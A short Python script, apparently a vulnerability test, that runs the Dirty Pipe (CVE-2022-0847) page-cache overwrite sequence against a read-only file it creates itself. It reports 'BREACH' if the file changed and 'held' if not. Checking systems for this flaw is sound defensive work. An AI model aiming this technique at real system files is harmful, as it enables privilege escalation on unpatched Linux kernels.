# attack: overwrite a read-only file through a spliced pipe page (Dirty Pipe, CVE-2022-0847), tried on a file of our own
# must end: completed
import os
open("target", "wb").write(b"A" * 4096)
os.chmod("target", 0o444)
source = os.open("target", os.O_RDONLY)
reader, writer = os.pipe()
size = 65536
os.write(writer, b"x" * size)
os.read(reader, size)
try:
    if hasattr(os, "splice"):
        os.splice(source, writer, 1, offset_src=0)
    os.write(writer, b"BBBB")
except OSError:
    pass
os.close(reader), os.close(writer), os.close(source)
if b"B" in open("target", "rb").read():
    print("BREACH: the page cache of a read-only file was changed")
print("held")
